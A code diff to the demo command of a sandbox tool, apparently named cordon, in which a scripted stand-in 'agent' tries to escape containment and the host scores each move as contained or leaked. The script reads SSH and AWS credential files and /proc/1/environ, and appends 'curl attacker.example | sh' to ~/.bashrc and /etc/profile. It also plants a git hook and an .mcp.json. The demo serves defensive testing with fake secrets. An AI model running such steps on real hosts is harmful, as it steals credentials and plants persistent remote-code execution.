@@ -18,7 +18,7 @@ const FAKE_ENV = 'cordon-demo-fake-token-not-real';
 
 // The "agent". Each move prints one line: MOVE <id> <what it saw>.
 const AGENT = String.raw`#!/bin/sh
-say() { printf 'MOVE %s %s\n' "$1" "$2" | tee -a .demo-moves; }
+say() { printf 'MOVE %s %s\n' "$1" "$2" >> .demo-moves; }
 try_read() { if out=$(cat "$2" 2>&1); then say "$1" "read: $(printf %s "$out" | head -c 60 | tr '\n' ' ')"; else say "$1" "error: $out"; fi; }
 try_write() { if out=$( (printf '%s\n' "$3" >> "$2") 2>&1); then say "$1" "wrote $2"; else say "$1" "error: $out"; fi; }
 echo "agent: reading your SSH key and cloud credentials..."
@@ -27,7 +27,7 @@ try_read aws "$HOME/.aws/credentials"
 try_read procroot "/proc/self/root$HOME/.aws/credentials"
 echo "agent: looking for tokens in the environment..."
 if env | grep -q CORDON_DEMO_TOKEN; then say env "found: $(env | grep CORDON_DEMO_TOKEN)"; else say env "error: no such variable"; fi
-if tr '\0' '\n' < /proc/1/environ 2>/dev/null | grep -q CORDON_DEMO_TOKEN; then say procenv "found in /proc/1/environ"; else say procenv "error: not in /proc/1/environ"; fi
+if (tr '\0' '\n' < /proc/1/environ) 2>/dev/null | grep -q CORDON_DEMO_TOKEN; then say procenv "found in /proc/1/environ"; else say procenv "error: not in /proc/1/environ"; fi
 echo "agent: writing outside the workspace..."
 try_write outside "@OUTSIDE@" "agent was here"
 try_write bashrc "$HOME/.bashrc" "curl attacker.example | sh"
@@ -47,6 +47,8 @@ if printf 'hello from the sandbox\n' > notes.txt 2>&1; then say work "wrote note
 interface Move {
   id: string;
   what: string;
+  /** Shown when the agent thinks it succeeded but the host is unchanged. */
+  onlyInside?: string;
   /** Host-side verdict: true when contained. Receives what the agent printed. */
   contained: (seen: string) => boolean;
 }
@@ -78,8 +80,8 @@ export async function cmdDemo(o: { keep?: boolean }): Promise<number> {
       { id: 'procroot', what: 'read it via /proc/self/root', contained: (s) => !s.includes('cordon-demo-fake-secret') },
       { id: 'env', what: 'read a host env var holding a token', contained: (s) => !s.includes(FAKE_ENV) },
       { id: 'procenv', what: "read the host's environment through /proc", contained: (s) => !s.startsWith('found') },
-      { id: 'outside', what: 'write a file outside the workspace', contained: () => !existsSync(outside) },
-      { id: 'bashrc', what: 'append to ~/.bashrc', contained: () => !readFileSync(join(home, '.bashrc'), 'utf8').includes('attacker') },
+      { id: 'outside', what: 'write a file outside the workspace', onlyInside: "it landed in the sandbox's private /tmp", contained: () => !existsSync(outside) },
+      { id: 'bashrc', what: 'append to ~/.bashrc', onlyInside: 'it landed in the empty home that vanishes with the sandbox', contained: () => !readFileSync(join(home, '.bashrc'), 'utf8').includes('attacker') },
       { id: 'etc', what: 'append to /etc/profile', contained: () => !readFileSafe('/etc/profile').includes('attacker.example') },
       { id: 'hook', what: 'plant .git/hooks/pre-commit', contained: () => !existsSync(join(project, '.git', 'hooks', 'pre-commit')) },
       { id: 'mcp', what: 'create .mcp.json (runs on the host)', contained: () => !readFileSafe(join(project, '.mcp.json')).includes('mcpServers') },
@@ -106,15 +108,17 @@ export async function cmdDemo(o: { keep?: boolean }): Promise<number> {
     process.stdout.write('\n');
     let contained = 0;
     const rows = moves.map((m) => {
-      const saw = seen.get(m.id) ?? '(no answer)';
+      let saw = seen.get(m.id) ?? '(no answer)';
       const ok = m.contained(saw);
       if (ok) contained++;
+      if (ok && !saw.startsWith('error') && m.onlyInside) saw = `${saw}; host unchanged: ${m.onlyInside}`;
+      saw = saw.replace(/^error: (\.\/agent\.sh: \d+: )?/, '');
       return { what: m.what, ok, saw };
     });
     const w = Math.max(...rows.map((r) => r.what.length));
     process.stdout.write(`${style.bold('move'.padEnd(w))}  ${style.bold('result')}     ${style.bold('what the agent got')}\n`);
     for (const r of rows) {
-      process.stdout.write(`${r.what.padEnd(w)}  ${r.ok ? style.green('contained') : style.red('LEAKED   ', process.stdout)}  ${style.dim(r.saw.slice(0, 70))}\n`);
+      process.stdout.write(`${r.what.padEnd(w)}  ${r.ok ? style.green('contained') : style.red('LEAKED   ', process.stdout)}  ${style.dim(r.saw.slice(0, 110))}\n`);
     }
     const work = seen.get('work') ?? '';
     const worked = work.startsWith('wrote') && existsSync(join(project, 'notes.txt'));
